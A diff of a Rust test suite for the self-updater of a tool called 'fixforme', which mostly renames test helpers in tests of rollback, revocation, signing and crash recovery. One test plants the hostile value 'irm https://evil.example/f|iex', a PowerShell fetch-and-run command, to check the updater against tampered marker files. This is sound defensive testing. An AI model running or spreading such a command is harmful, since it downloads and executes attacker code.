@@ -11,8 +11,8 @@ use serde_json::json;
 
 use crate::named_files::pipe;
 use crate::support::crash::{LAB, kill_when_stalled};
-use crate::support::publisher::{
-    Home, OLD, Reply, Signer, Site, archive, index, later, newer, pause, publisher, release, stem,
+use crate::support::releases::{
+    Home, OLD, ReleaseServer, Reply, Signer, archive, index, later, newer, pause, release, stem, test_releases,
 };
 use crate::support::sandbox::{Ran, Sandbox};
 
@@ -22,7 +22,7 @@ fn hash(path: &Path) -> Sha256 {
 
 #[test]
 fn an_update_keeps_the_old_one_which_comes_back_and_goes_again() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     site.offer(&[&newer('8'), &new]);
     let ran = home.update(&site, &["--check"]).exits(80);
     assert!(ran.stdout.contains(&format!("fixforme {new} is available; this is {OLD}.")), "{}", ran.all());
@@ -32,8 +32,8 @@ fn an_update_keeps_the_old_one_which_comes_back_and_goes_again() {
     assert!(ran.stdout.contains(&format!("fixforme {new} is in place of {OLD}.")), "{}", ran.all());
     assert!(ran.stdout.contains("fixforme update --rollback"), "{}", ran.all());
     assert_eq!(home.version(), new);
-    assert_eq!(hash(&home.program), hash(&publisher().program(&new)));
-    assert_eq!(hash(&home.old()), hash(&publisher().program(OLD)));
+    assert_eq!(hash(&home.program), hash(&test_releases().program(&new)));
+    assert_eq!(hash(&home.old()), hash(&test_releases().program(OLD)));
     let beside: Vec<_> = fs_err::read_dir(home.program.parent().unwrap()).unwrap().collect();
     assert_eq!(beside.len(), 2, "{beside:?}");
 
@@ -42,14 +42,14 @@ fn an_update_keeps_the_old_one_which_comes_back_and_goes_again() {
 
     let ran = home.run(&["update", "--rollback"]).exits(0);
     assert!(ran.stdout.contains(&format!("fixforme {OLD} is back in place of {new}.")), "{}", ran.all());
-    assert_eq!((home.version(), hash(&home.old())), (OLD.to_owned(), hash(&publisher().program(&new))));
+    assert_eq!((home.version(), hash(&home.old())), (OLD.to_owned(), hash(&test_releases().program(&new))));
     let _ = home.run(&["update", "--rollback"]).exits(0);
-    assert_eq!((home.version(), hash(&home.old())), (new, hash(&publisher().program(OLD))));
+    assert_eq!((home.version(), hash(&home.old())), (new, hash(&test_releases().program(OLD))));
 }
 
 #[test]
 fn a_version_can_be_named_upwards_and_downwards_only_to_the_kept_one() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let (between, new) = (newer('8'), newer('9'));
     let mut index = site.offer(&[&between, &new]);
     let ran = home.update(&site, &["--to", "7.7.7"]).exits(2);
@@ -60,7 +60,7 @@ fn a_version_can_be_named_upwards_and_downwards_only_to_the_kept_one() {
     let ran = home.update(&site, &["--to", OLD]).exits(2);
     assert!(ran.stderr.contains(&format!("{OLD} is older than {new}, which runs")), "{}", ran.all());
     let _ = home.update(&site, &["--to", &between]).exits(0);
-    assert_eq!((home.version(), hash(&home.old())), (between.clone(), hash(&publisher().program(&new))));
+    assert_eq!((home.version(), hash(&home.old())), (between.clone(), hash(&test_releases().program(&new))));
     let _ = home.update(&site, &["--to", &new]).exits(0);
 
     index["revoked"] = json!([{ "version": between, "because": "it loses its keys." }]);
@@ -76,7 +76,7 @@ fn a_version_can_be_named_upwards_and_downwards_only_to_the_kept_one() {
 
 #[test]
 fn what_must_not_be_taken_is_passed_over() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let (between, new) = (newer('8'), newer('9'));
     let mut index = site.offer(&[&between, &new]);
     index["revoked"] = json!([{ "version": new, "because": "it is wrong." }]);
@@ -103,7 +103,7 @@ fn what_must_not_be_taken_is_passed_over() {
 
 #[test]
 fn what_stands_where_an_update_works_is_neither_followed_nor_removed() {
-    let site = Site::start();
+    let site = ReleaseServer::start();
     site.offer(&[&newer('9')]);
     for name in ["fixforme.old", ".fixforme-update"] {
         for folder in [true, false] {
@@ -128,14 +128,14 @@ fn what_stands_where_an_update_works_is_neither_followed_nor_removed() {
             assert_eq!(fs_err::read_dir(&elsewhere).unwrap().count(), 1);
             assert_eq!(fs_err::read_to_string(elsewhere.join("mine")).unwrap(), "mine");
             assert!(!home.sandbox.state().join("update/intent.json").exists());
-            assert_eq!((home.version(), hash(&home.program)), (OLD.to_owned(), hash(&publisher().program(OLD))));
+            assert_eq!((home.version(), hash(&home.program)), (OLD.to_owned(), hash(&test_releases().program(OLD))));
         }
     }
 }
 
 #[test]
 fn a_look_at_another_channel_brings_nothing_back_that_the_first_has_ruled_out() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let (between, new) = (newer('8'), newer('9'));
     let mut index = site.offer(&[&between, &new]);
     let _ = home.update(&site, &["--to", &between]).exits(0);
@@ -162,7 +162,7 @@ fn a_look_at_another_channel_brings_nothing_back_that_the_first_has_ruled_out() 
 
 #[test]
 fn the_next_key_signs_as_well_as_the_current_one() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let index = site.offer(&[&newer('9')]);
     site.publish_by(Signer::Next, &index);
     let _ = home.update(&site, &[]).exits(0);
@@ -171,7 +171,7 @@ fn the_next_key_signs_as_well_as_the_current_one() {
 
 #[test]
 fn a_script_reads_from_events_what_can_be_had_and_what_was_done() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     site.offer(&[&new]);
     let events = home.update(&site, &["--check", "--output", "json"]).exits(80).events();
     let update = events.iter().find(|event| event["type"] == "update").unwrap();
@@ -187,7 +187,7 @@ fn a_script_reads_from_events_what_can_be_had_and_what_was_done() {
 
 #[test]
 fn while_a_run_is_open_the_program_stays() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     let (sandbox, tenant) = (Sandbox::new(), LAB.serve(&["stall-after=PATCH /v1.0/**#1"]));
     assert!(kill_when_stalled(LAB.command(&sandbox, &tenant), &tenant));
@@ -208,7 +208,7 @@ fn while_a_run_is_open_the_program_stays() {
 
 #[test]
 fn from_a_folder_of_downloads_it_is_installed_only_when_that_is_agreed_to() {
-    let (home, site, new) = (Home::at("Downloads/fixforme", OLD), Site::start(), newer('9'));
+    let (home, site, new) = (Home::at("Downloads/fixforme", OLD), ReleaseServer::start(), newer('9'));
     site.offer(&[&new]);
     let before = home.files();
     let ran = home.update(&site, &[]).exits(4);
@@ -223,7 +223,7 @@ fn from_a_folder_of_downloads_it_is_installed_only_when_that_is_agreed_to() {
 
     let ran = home.update(&site, &["--install"]).exits(0);
     assert!(ran.stdout.contains(&format!("fixforme {new} is installed for you: `{}`", own.display())), "{}", ran.all());
-    assert_eq!(hash(&own), hash(&publisher().program(&new)));
+    assert_eq!(hash(&own), hash(&test_releases().program(&new)));
     assert_eq!(downloads(home.files()), downloads(before));
     let ran = home.update(&site, &["--install"]).exits(2);
     assert!(ran.stderr.contains(&format!("fixforme {new} is already installed for you")), "{}", ran.all());
@@ -231,7 +231,7 @@ fn from_a_folder_of_downloads_it_is_installed_only_when_that_is_agreed_to() {
 
 #[test]
 fn what_a_package_manager_installed_is_left_to_it() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     fs_err::write(home.program.with_file_name("installed-by"), "winget\n").unwrap();
     let before = home.files();
@@ -248,21 +248,21 @@ fn what_a_package_manager_installed_is_left_to_it() {
 
 #[test]
 fn what_a_package_manager_has_installed_is_not_overwritten_from_a_folder_of_downloads() {
-    let (home, site) = (Home::at("Downloads/fixforme", OLD), Site::start());
+    let (home, site) = (Home::at("Downloads/fixforme", OLD), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     let own = home.sandbox.folder.path().join(".local/bin/fixforme");
     fs_err::create_dir_all(own.parent().unwrap()).unwrap();
-    fs_err::copy(publisher().program(OLD), &own).unwrap();
+    fs_err::copy(test_releases().program(OLD), &own).unwrap();
     fs_err::write(own.with_file_name("installed-by"), "msi\n").unwrap();
     let ran = home.update(&site, &["--install"]).exits(2);
     let words = format!("fixforme in `{}` was installed by msi, which also updates it", own.display());
     assert!(ran.stderr.contains(&words) && ran.stderr.contains("install the newer"), "{}", ran.all());
-    assert_eq!(hash(&own), hash(&publisher().program(OLD)));
+    assert_eq!(hash(&own), hash(&test_releases().program(OLD)));
 }
 
 #[test]
 fn what_is_planted_beside_the_program_neither_hangs_nor_misleads_it() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     site.offer(&[&new]);
     let marker = home.program.with_file_name("installed-by");
     let words = "IT, by: irm https://evil.example/f|iex";
@@ -290,7 +290,7 @@ fn what_is_planted_beside_the_program_neither_hangs_nor_misleads_it() {
 }
 
 /// Publishes a shell script as the program of a version.
-fn offer_script(site: &Site, version: &str, script: &str) {
+fn offer_script(site: &ReleaseServer, version: &str, script: &str) {
     let archive = archive(version, script.as_bytes());
     site.publish(&index(vec![release(version, &archive, script.as_bytes())]));
     site.put(&format!("{}.tar.gz", stem(version)), Reply::Bytes(archive));
@@ -298,7 +298,7 @@ fn offer_script(site: &Site, version: &str, script: &str) {
 
 #[test]
 fn a_new_program_that_does_not_start_never_gets_the_place() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     let _ = home.update(&site, &["--check"]).exits(10);
     let before = home.files();
     let passport = |version: &str, target: &str| {
@@ -324,7 +324,7 @@ fn a_new_program_that_does_not_start_never_gets_the_place() {
 
 #[test]
 fn a_new_program_that_hangs_never_gets_the_place() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     offer_script(&site, &newer('9'), "#!/bin/sh\nexec sleep 60\n");
     let ran = home.update(&site, &[]).exits(9);
     assert!(ran.stderr.contains("it did not end within 10 s"), "{}", ran.all());
@@ -333,7 +333,7 @@ fn a_new_program_that_hangs_never_gets_the_place() {
 
 #[test]
 fn a_new_program_that_starts_elsewhere_but_not_in_its_place_makes_way_for_the_old_one() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     let _ = home.update(&site, &["--check"]).exits(10);
     let before = home.files();
     let script = format!(
@@ -358,7 +358,7 @@ fn meddler(version: &str, stage: &str, place: &str) -> String {
 
 #[test]
 fn a_new_program_that_is_changed_or_removed_as_it_is_put_into_its_place_makes_way_for_the_old_one() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     let _ = home.update(&site, &["--check"]).exits(10);
     let before = home.files();
     for (stage, place) in [("echo >>\"$0\"", ":"), (":", "echo >>\"$0\""), (":", "rm \"$0\"")] {
@@ -380,16 +380,16 @@ fn a_new_program_that_is_changed_or_removed_as_it_is_put_into_its_place_makes_wa
 
 #[test]
 fn a_program_that_somebody_puts_there_after_a_crash_stays_and_so_does_the_old_one() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     // The new program ends the one that tests it in its place: the exchange is made, and not brought to its end.
     offer_script(&site, &new, &meddler(&new, ":", "kill -9 $PPID"));
     let _ = home.update(&site, &[]).exits(-1);
     let stage = home.program.with_file_name(".fixforme-update");
     assert!(stage.exists());
-    fs_err::copy(publisher().program(&newer('8')), &home.program).unwrap();
+    fs_err::copy(test_releases().program(&newer('8')), &home.program).unwrap();
     assert_eq!(home.version(), newer('8'));
     let _ = home.run(&["list"]).exits(0);
-    assert_eq!((home.version(), hash(&home.old())), (newer('8'), hash(&publisher().program(OLD))));
+    assert_eq!((home.version(), hash(&home.old())), (newer('8'), hash(&test_releases().program(OLD))));
     assert!(!stage.exists());
     let _ = home.run(&["update", "--rollback"]).exits(0);
     assert_eq!(home.version(), OLD);
@@ -397,7 +397,7 @@ fn a_program_that_somebody_puts_there_after_a_crash_stays_and_so_does_the_old_on
 
 #[test]
 fn one_that_stands_by_ends_what_a_dead_process_has_left() {
-    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
     offer_script(&site, &new, &meddler(&new, ":", "kill -9 $PPID"));
     let _ = home.update(&site, &[]).exits(-1);
     let (stage, kept) = (home.program.with_file_name(".fixforme-update"), ".fixforme-update/fixforme");
@@ -424,7 +424,7 @@ fn one_that_stands_by_ends_what_a_dead_process_has_left() {
 
 #[test]
 fn an_old_one_that_was_changed_does_not_come_back() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     let ran = home.run(&["update", "--rollback"]).exits(2);
     assert!(ran.stderr.contains("no earlier version is kept"), "{}", ran.all());
@@ -438,7 +438,7 @@ fn an_old_one_that_was_changed_does_not_come_back() {
 
 #[test]
 fn two_updates_at_once_are_one() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     let _ = home.update(&site, &["--check"]).exits(80);
     let lock = fs_err::OpenOptions::new().write(true).open(home.sandbox.state().join("update/lock")).unwrap();
@@ -451,7 +451,7 @@ fn two_updates_at_once_are_one() {
 
 #[test]
 fn a_withdrawn_version_is_told_so_also_where_nothing_newer_is_there() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let mut index = index(Vec::new());
     index["revoked"] = json!([{ "version": OLD, "because": "its rollback is wrong." }]);
     site.publish(&index);
@@ -470,12 +470,12 @@ fn a_withdrawn_version_is_told_so_also_where_nothing_newer_is_there() {
 
 #[test]
 fn a_list_and_a_signature_of_two_uploads_are_fetched_once_more() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let old = index(Vec::new());
     let text = serde_json::to_vec_pretty(&old).unwrap();
     site.offer(&[&newer('9')]);
     for others in 1..3 {
-        let old = Reply::Bytes(publisher().sign(Signer::Current, &text, "fixforme index 1 stable").into_bytes());
+        let old = Reply::Bytes(test_releases().sign(Signer::Current, &text, "fixforme index 1 stable").into_bytes());
         site.publish(&later(&site.offer(&[&newer('9')])));
         let mut signature = site.reply("index.json.minisig");
         for _ in 0..others {
@@ -489,7 +489,7 @@ fn a_list_and_a_signature_of_two_uploads_are_fetched_once_more() {
 
 #[test]
 fn the_list_may_be_led_to_from_another_address() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     site.offer(&[&newer('9')]);
     for (from, to) in [("a", "/b"), ("b", "/stable")] {
         for name in ["index.json", "index.json.minisig"] {
@@ -502,7 +502,7 @@ fn the_list_may_be_led_to_from_another_address() {
 
 #[test]
 fn the_list_is_asked_for_through_the_proxy_of_the_network() {
-    let (home, site) = (Home::new(), Site::start());
+    let (home, site) = (Home::new(), ReleaseServer::start());
     let mut command = home.command(&["update", "--check", "--index-url", "https://releases.example/stable/index.json"]);
     let ran = Ran::of(command.env("HTTPS_PROXY", site.root()).output().unwrap()).exits(10);
     assert_eq!(site.requests(), ["CONNECT releases.example:443"], "{}", ran.all());
